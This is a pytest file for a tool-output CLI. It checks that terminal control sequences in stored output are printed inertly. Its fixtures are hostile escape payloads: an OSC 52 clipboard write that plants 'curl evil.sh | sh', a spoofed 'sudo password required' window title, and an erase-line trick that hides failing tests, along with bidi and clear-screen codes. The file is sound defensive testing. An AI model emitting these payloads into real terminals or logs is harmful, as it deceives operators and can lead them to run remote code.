"""Finding 9: stored tool output is attacker text, and the operator CLI never replays its terminal escapes.

`pyai-overflow show` / `grep` used to print stored bytes raw: an OSC 52 sequence wrote the operator's
clipboard, an OSC 0 sequence renamed the window, and a carriage return plus erase-line hid a line behind
fake text. Now every control character is printed as a visible escape, unless `--raw` asks for the bytes.
"""

from __future__ import annotations

import asyncio
import io
import json
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from pydantic_ai_harness.overflowing_tool_output import LocalFileStore
from pydantic_ai_harness.overflowing_tool_output._cli import main

pytestmark = pytest.mark.reliability

OSC52_CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'
"""Sets the clipboard to `curl evil.sh | sh`."""

WINDOW_TITLE = '\x1b]0;sudo password required\x07'
ERASE_AND_FAKE = 'FAILED 3 tests\r\x1b[2K\x1b[32mall 412 tests passed\x1b[0m'
"""Back to column 0, erase the line, print a green lie."""

C1_CSI = '\x9b2J'
"""The 8-bit CSI: clear screen on terminals that honour C1 controls."""

BIDI = 'amount: \u202e000,01$'
"""A right-to-left override that displays the digits reversed."""

LINES = ['build log', OSC52_CLIPBOARD + 'step 1 ok', WINDOW_TITLE + 'step 2 ok', ERASE_AND_FAKE, C1_CSI, BIDI, 'end']
PAYLOAD = ('\n'.join(LINES) + '\n').encode()

ACTIVE = ('\x1b', '\x07', '\x9b', '\u202e', '\r')
"""What must never reach the terminal from stored text."""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    asyncio.run(LocalFileStore(base_dir=tmp_path / 'store').write('run/call_1/0', PAYLOAD))
    return tmp_path / 'store'


def cli(root: Path, *args: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(['--root', str(root), *args], out=out, err=io.StringIO())
    return code, out.getvalue()


def assert_inert(text: str) -> None:
    for character in ACTIVE:
        assert character not in text, f'{character!r} reached the output: {text!r}'


@pytest.mark.parametrize(
    'args',
    [
        pytest.param(('show', 'run/call_1/0'), id='show'),
        pytest.param(('show', 'run/call_1/0', '--lines', '2:5'), id='show-lines'),
        pytest.param(('show', 'run/call_1/0', '--bytes', '0:4096'), id='show-bytes'),
        pytest.param(('grep', 'run/call_1/0', 'ok'), id='grep'),
        pytest.param(('grep', '-E', 'run/call_1/0', 'passed|amount|2J'), id='grep-regex'),
    ],
)
def test_control_characters_are_printed_escaped(root: Path, args: tuple[str, ...]) -> None:
    code, out = cli(root, *args)
    assert code == 0
    assert_inert(out)
    assert '\\x1b]52;c;' in out or '\\x1b[2K' in out or '\\u202e' in out or '\\x9b2J' in out


def test_every_line_is_still_there_and_readable(root: Path) -> None:
    _, out = cli(root, 'show', 'run/call_1/0')
    assert out.splitlines() == [
        'build log',
        '\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07step 1 ok',
        '\\x1b]0;sudo password required\\x07step 2 ok',
        'FAILED 3 tests\\x0d\\x1b[2K\\x1b[32mall 412 tests passed\\x1b[0m',  # the hidden failure shows
        '\\x9b2J',
        'amount: \\u202e000,01$',
        'end',
    ]


def test_raw_prints_what_was_stored_on_purpose(root: Path) -> None:
    assert cli(root, 'show', 'run/call_1/0', '--raw') == (0, PAYLOAD.decode())
    assert cli(root, 'grep', '--raw', 'run/call_1/0', 'passed') == (0, f'4:{ERASE_AND_FAKE}\n')


def test_json_output_carries_the_exact_text_escaped(root: Path) -> None:
    _, out = cli(root, '--json', 'show', 'run/call_1/0')
    assert_inert(out)
    assert [line['text'] for line in json.loads(out)['lines']] == LINES


def test_on_a_real_terminal_nothing_active_arrives(root: Path) -> None:
    """The CLI as a process writing to a pseudo-terminal, read back byte for byte."""
    controller, terminal = pty.openpty()
    try:
        child = subprocess.Popen(
            [sys.executable, '-m', 'pydantic_ai_harness.overflowing_tool_output', '--root', str(root)]
            + ['show', 'run/call_1/0'],
            stdin=subprocess.DEVNULL,
            stdout=terminal,
            stderr=terminal,
        )
        os.close(terminal)
        received = b''
        while True:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            received += chunk
        assert child.wait(timeout=60) == 0
    finally:
        os.close(controller)
    text = received.decode().replace('\r\n', '\n')  # the terminal's own newline translation
    assert_inert(text)
    assert 'all 412 tests passed' in text and 'FAILED 3 tests' in text
